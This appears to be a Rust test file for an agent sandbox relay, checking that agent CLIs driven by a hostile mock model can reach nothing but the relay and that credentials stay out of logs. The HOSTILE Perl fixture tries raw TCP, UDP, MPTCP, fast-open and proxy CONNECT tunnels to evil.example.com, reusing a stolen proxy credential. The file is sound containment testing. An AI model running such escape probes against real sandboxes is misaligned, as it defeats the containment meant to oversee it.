//! The real CLIs with a hostile model behind the relay: the kernel leaves them the relay's port, and the relay
//! opens no tunnel for their commands.

use std::net::TcpListener;

use crate::model_server::ModelServer;
use crate::user::User;

/// Every way out that a command could try; each line reports the result.
const HOSTILE: &str = r#"
use Socket;
sub try {
    my ($how, $host, $port) = @_;
    my ($type, $protocol) = (SOCK_STREAM, 0);
    ($type, $protocol) = (SOCK_DGRAM, 17) if $how eq "udp";
    $protocol = 262 if $how eq "mptcp";
    socket(my $socket, AF_INET, $type, $protocol) or return "stopped";
    my $address = pack_sockaddr_in($port, inet_aton($host));
    my $done = $how eq "udp" ? send($socket, "x", 0, $address)
        : $how eq "fastopen" ? send($socket, "x", 0x20000000, $address)
        : connect($socket, $address);
    return $done ? $socket : $!{EACCES} ? "stopped" : "open: $!";
}
sub said { my ($name, $result) = @_; print "$name=", ref($result) ? "open" : $result, "\n" }
said("another port", try("tcp", "127.0.0.1", $ENV{OTHER}));
said("the model itself", try("tcp", "127.0.0.1", $ENV{MODEL}));
said("port 443", try("tcp", "127.0.0.1", 443));
said("port 53", try("tcp", "127.0.0.1", 53));
said("UDP", try("udp", "127.0.0.1", 53));
said("Multipath TCP", try("mptcp", "127.0.0.1", $ENV{OTHER}));
said("fast open", try("fastopen", "127.0.0.1", $ENV{OTHER}));
my ($port) = ($ENV{HTTPS_PROXY} || "") =~ m{\@127.0.0.1:(\d+)};
my $credential = $ENV{CREDENTIAL};
print "no proxy\n" unless $port;
sub tunnel {
    my ($target, $credential) = @_;
    my $socket = try("tcp", "127.0.0.1", $port);
    return $socket unless ref $socket;
    my $secret = $credential ? "Proxy-Authorization: Basic " . $credential . "\r\n" : "";
    syswrite($socket, "CONNECT $target HTTP/1.1\r\nHost: $target\r\n$secret\r\n");
    sysread($socket, my $answer, 12);
    return substr($answer, 9, 3);
}
said("tunnel to another host", tunnel("evil.example.com:443", $credential));
said("tunnel to this machine", tunnel("127.0.0.1:$ENV{OTHER}", $credential));
said("tunnel without the secret", tunnel("evil.example.com:443", ""));
"#;

const STOPPED: &str = "another port=stopped
the model itself=stopped
port 443=stopped
port 53=stopped
UDP=stopped
Multipath TCP=stopped
fast open=stopped
tunnel to another host=403
tunnel to this machine=403
tunnel without the secret=407
";

fn reaches_nothing_but_the_relay(cli: &str, agent: &str) {
    let Some(mut user) = User::new(cli, agent, "edit") else { return };
    let other = TcpListener::bind("127.0.0.1:0").unwrap();
    let server = ModelServer::start(Some("sh hostile.sh >seen 2>&1"));
    user.uses(&server, agent);
    let script = format!(
        "export OTHER={} MODEL={}\n\
         credential=${{HTTPS_PROXY#http://}}\n\
         export CREDENTIAL=$(printf %s ${{credential%@*}} | base64 -w0)\n\
         exec perl hostile.pl\n",
        other.local_addr().unwrap().port(),
        server.port
    );
    let project = user.project.path();
    std::fs::write(project.join("hostile.sh"), script).unwrap();
    std::fs::write(project.join("hostile.pl"), HOSTILE).unwrap();
    let shown = user.run(&["run", "--record", "wire", "Try everything."]);
    assert!(shown.contains("Behind the relay."), "{cli}: {shown}");
    let seen = std::fs::read_to_string(project.join("seen")).unwrap_or_default();
    assert_eq!(seen, STOPPED, "{cli}: {shown}");
    // Diagnostics name the open ports but not the network, and the hosts that the relay refused.
    assert!(!shown.contains("network (TCP port 443"), "{cli}: {shown}");
    assert!(shown.contains("evil.example.com"), "{cli}: {shown}");
}

#[test]
fn the_secret_of_the_address_is_in_no_event_and_no_stored_request() {
    let Some(mut user) = User::new("claude-2.1.325", "claude", "edit") else { return };
    let server = ModelServer::start(Some("echo address $ANTHROPIC_BASE_URL; env > variables"));
    user.uses(&server, "claude");
    let events = user.run(&["run", "--record", "wire", "--json", "Look around."]);
    let variables = std::fs::read_to_string(user.project.path().join("variables")).unwrap();
    let address = variables.lines().find_map(|it| it.strip_prefix("ANTHROPIC_BASE_URL=")).unwrap();
    let secret = address.split('/').find(|it| it.len() == 32).unwrap();
    let requests = user.run(&["sessions", "show", "last", "--turn", "1", "--request", "--json"]);
    for shown in [events, requests] {
        assert!(shown.contains("address http"), "{shown}");
        assert!(!shown.contains(secret), "{shown}");
    }
}

#[test]
fn a_credential_of_no_known_format_is_in_no_event_and_no_stored_request() {
    let Some(mut user) = User::new("claude-2.1.325", "claude", "edit") else { return };
    let server = ModelServer::start(Some("echo the pass is opaque-canary-8842"));
    user.uses(&server, "claude");
    user.env.push(("ANTHROPIC_CUSTOM_HEADERS", "X-Corp-Pass: opaque-canary-8842".to_owned()));
    let events = user.run(&["run", "--record", "wire", "--json", "Look around."]);
    let requests = user.run(&["sessions", "show", "last", "--turn", "1", "--request", "--json"]);
    let stored = user.run(&["sessions", "show", "last", "--turn", "1", "--events"]);
    for shown in [events, requests, stored] {
        assert!(shown.contains("the pass is [redacted]"), "{shown}");
        assert!(!shown.contains("opaque-canary"), "{shown}");
    }
}

#[test]
fn claude_2_1_197_reaches_nothing_but_the_relay() {
    reaches_nothing_but_the_relay("claude-2.1.197", "claude");
}

#[test]
fn claude_2_1_325_reaches_nothing_but_the_relay() {
    reaches_nothing_but_the_relay("claude-2.1.325", "claude");
}

#[test]
fn codex_0_98_reaches_nothing_but_the_relay() {
    reaches_nothing_but_the_relay("codex-0.98.0", "codex");
}

#[test]
fn codex_0_166_reaches_nothing_but_the_relay() {
    reaches_nothing_but_the_relay("codex-0.166.0", "codex");
}

#[test]
fn gemini_reaches_nothing_but_the_relay() {
    reaches_nothing_but_the_relay("gemini-0.61.0", "gemini");
}
